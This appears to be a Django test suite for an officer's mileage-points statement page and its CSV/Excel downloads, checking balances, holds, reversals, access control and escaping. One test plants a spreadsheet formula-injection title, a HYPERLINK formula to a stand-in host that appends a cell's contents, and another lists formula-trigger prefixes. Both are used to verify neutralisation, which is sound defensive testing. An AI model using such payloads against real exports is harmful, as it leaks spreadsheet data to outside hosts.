"""My mileage, its downloads and the piece on the home page: one's own, whole, explained."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Audience, Officer
from accounts.services.audiences import audience_for
from core import clock
from knowledge.models import Item
from mileage.panels import my_mileage
from mileage.services.fold import fold
from mileage.services.post import post
from mileage.services.reverse import reverse as take_back
from mileage.services.vest import vest_due
from mileage.sheets import harmless
from mileage.statement import Statement
from tests.cast import office, published
from tests.mileage.people import (
    at,
    evaluation_submitted,
    item_published,
    person,
    policy,
    round_decided,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("ledger_alone")]
PAGE = reverse("mileage:mine")
NOW = at("2026-03-12 09:00")


def signed_in(officer: Officer) -> Client:
    client = Client(headers={"accept-language": "en"})
    client.force_login(officer)
    return client


def shown(officer: Officer, /, **query: str) -> Any:
    with clock.at(NOW):
        response = signed_in(officer).get(PAGE, query)
    assert response.status_code == 200
    return response


@pytest.fixture
def kim() -> Officer:
    """An officer with a past: a paid item, a capped one, a superior one, a late evaluation."""
    kim, lee = person("kim"), person("lee")
    first = published(kim, title="보세운송 신고 요령")
    fold([item_published(kim, item=first, when=at("2026-03-02 10:00"))])
    with clock.at(at("2026-03-09 01:00")):
        vest_due()
    for hour in range(1, 5):
        fold([item_published(kim, lee, when=at(f"2026-03-10 1{hour}:00"), title=f"글 {hour}")])
    fold(
        [
            round_decided(kim, item=first, number=1, when=at("2026-03-11 10:00")),
            evaluation_submitted(
                kim, item=first, number=2, when=at("2025-12-30 10:00"), on_time=False
            ),
        ]
    )
    return kim


def test_the_statement_tells_every_line_what_for_and_why(kim: Officer) -> None:
    response = shown(kim)
    assert (response.context["balance"], response.context["pending"]) == (105, 12)
    lines = response.context["lines"]
    assert [(line.move.amount, line.move.total) for line in lines] == [
        (0, 117),
        (100, 117),
        (3, 17),
        (3, 14),
        (3, 11),
        (3, 8),
        (5, 5),
    ]
    text = response.content.decode()
    for words in (
        "보세운송 신고 요령",
        "It was not done by the date that was set.",
        "Usable since 2026.03.09.",
        "Held until 2026.03.17.",
        "Policy start, version 1",
        "Knowledge found superior: 100 points",
    ):
        assert words in text
    assert response.context["standing"].points == 117
    # Reached, and decided when the half-year closes.
    assert response.context["standing"].level == ""
    assert [step.is_reached for step in response.context["standing"].steps] == [True, False, False]
    assert "33 more points to Guide" in text
    # The hold's end moves nothing that the officer has not been told of.
    assert not [line for line in lines if line.entry.event == "vest"]


def test_the_statement_is_in_the_readers_language(kim: Officer) -> None:
    client = Client(headers={"accept-language": "ko"})
    client.force_login(kim)
    with clock.at(NOW):
        assert "우수 지식 선정 100점" in client.get(PAGE).content.decode()


def test_the_statement_asks_few_questions(kim: Officer) -> None:
    client = signed_in(kim)
    with clock.at(NOW):
        client.get(PAGE)
        with CaptureQueriesContext(
            connection,
        ) as queries:
            client.get(PAGE)
    own = [q["sql"] for q in queries if "mileage_" in q["sql"] or "knowledge_item" in q["sql"]]
    assert len(own) <= 8, "\n".join(own)


def test_another_officers_lines_never_appear(kim: Officer) -> None:
    stranger = person("stranger")
    fold([item_published(stranger, when=NOW, title="남의 글")])
    assert len(Statement(stranger).moves) == 1
    with clock.at(NOW):
        page = signed_in(kim).get(PAGE, {"officer": str(stranger.pk)})
    sheet = signed_in(kim).get(reverse("mileage:download"), {"officer": str(stranger.pk)})
    assert "남의 글" not in page.content.decode()
    assert "남의 글" not in sheet.getvalue().decode()
    assert all(line.entry.officer_id == kim.pk for line in page.context["lines"])


def test_the_title_of_an_item_that_may_not_be_read_is_not_shown(kim: Officer) -> None:
    secret = published(
        person("author"),
        title="비밀 지식",
        audience=audience_for(kind=Audience.Kind.OFFICE, office=office("BSN")),
    )
    fold([evaluation_submitted(kim, item=secret, number=7, when=NOW)])
    text = shown(kim).content.decode()
    assert "비밀 지식" not in text
    assert "An item that you cannot read now" in text
    sheet = signed_in(kim).get(reverse("mileage:download")).getvalue().decode("utf-8-sig")
    assert "비밀 지식" not in sheet
    assert str(secret.pk) not in [row[2] for row in csv.reader(io.StringIO(sheet))]


def test_a_reversal_and_a_shortage_are_told(kim: Officer) -> None:
    policy("2026-03-01", contest=7)
    entry = post(key="contest:1:1", event="contest", officer=kim, occurred_at=NOW)
    with clock.at(NOW):
        take_back(entry=entry, reason="annulled", note="Disqualified")
    text = shown(kim).content.decode()
    assert "Taken back: Prize of a contest" in text
    assert "Taken back on 2026.03.12." in text
    assert "Disqualified" in text


def test_a_hold_whose_day_has_passed_says_that_it_lasts(kim: Officer) -> None:
    Item.objects.filter(title="글 1").update(status="hidden")
    with clock.at(at("2026-04-20 09:00")):
        vest_due()
        response = signed_in(kim).get(PAGE)
    assert "Still held" in response.content.decode()


def test_lines_are_chosen_by_season_and_event_and_keep_their_totals(kim: Officer) -> None:
    chosen = shown(kim, season="2026H1", event="superior").context["lines"]
    assert [(line.move.amount, line.move.total) for line in chosen] == [(100, 117)]
    late = shown(kim, season="2025H2").context["lines"]
    assert [line.entry.reason for line in late] == ["late"]
    assert len(shown(kim, season="no such", event="none").context["lines"]) == 7
    assert "No line fits" in shown(kim, season="2025H2", event="superior").content.decode()


def test_a_long_statement_has_pages(kim: Officer) -> None:
    for number in range(30):
        post(key=f"z:{number}", event="report", officer=kim, occurred_at=NOW)
    second = shown(kim, page="2")
    assert len(shown(kim).context["lines"]) == 25
    assert len(second.context["lines"]) == 12
    assert "page=1" in second.content.decode()


def test_whoever_has_no_points_is_told_how_to_get_them() -> None:
    text = shown(person("newcomer")).content.decode()
    assert "You have no points yet" in text
    assert "Download" not in text


def test_strangers_sign_in_first() -> None:
    for name in ("mileage:mine", "mileage:download"):
        response = Client().get(reverse(name))
        assert response.status_code == 302
        assert response.headers["location"].startswith("/accounts/login/")
        assert signed_in(person("kim")).post(reverse(name)).status_code == 405


def test_the_csv_holds_the_chosen_lines_and_is_known_as_utf8(kim: Officer) -> None:
    response = signed_in(kim).get(
        reverse("mileage:download"), {"format": "csv", "event": "publish", "page": "2"}
    )
    body = response.getvalue()
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Day", "What for"]
    assert [row[4] for row in rows[1:]] == ["3", "3", "3", "3", "5"]
    assert rows[-1][3] == "보세운송 신고 요령"
    assert "attachment" in response.headers["content-disposition"]


def test_the_workbook_holds_numbers_and_texts(kim: Officer) -> None:
    response = signed_in(kim).get(reverse("mileage:download"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 8
    assert rows[2][4:6] == (100, 117)
    assert rows[-1][3] == "보세운송 신고 요령"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_title_becomes_a_formula(kim: Officer, kind: str) -> None:
    wicked = '=HYPERLINK("http://example.invalid/"&A1,"통관")'
    fold([item_published(kim, when=at("2026-03-12 01:00"), title=wicked)])
    body = signed_in(kim).get(reverse("mileage:download"), {"format": kind}).getvalue()
    if kind == "csv":
        cell: Any = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1][3]
    else:
        sheet = load_workbook(io.BytesIO(body)).active
        assert sheet is not None
        assert sheet["D2"].data_type == "s"
        cell = sheet["D2"].value
    assert cell == f"'{wicked}"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "＝1", "\x00=1"])
def test_what_spreadsheets_run_is_made_harmless(text: str) -> None:
    assert harmless(text)[0] == "'"


def test_an_unknown_format_is_not_found(kim: Officer) -> None:
    response = signed_in(kim).get(reverse("mileage:download"), {"format": "exe"})
    assert response.status_code == 404


def test_the_home_page_shows_the_last_lines(kim: Officer) -> None:
    with clock.at(NOW), CaptureQueriesContext(connection) as queries:
        panel = my_mileage(None, kim)  # type: ignore[arg-type]
    assert (panel["balance"], panel["pending"]) == (105, 12)
    assert [line.move.amount for line in panel["lines"]] == [0, 100, 3]
    assert panel["next_hold"].day == at("2026-03-17 00:00").date()
    assert panel["months"][-1] == 117
    assert len([q for q in queries if "mileage_" in q["sql"] or "item" in q["sql"]]) <= 5
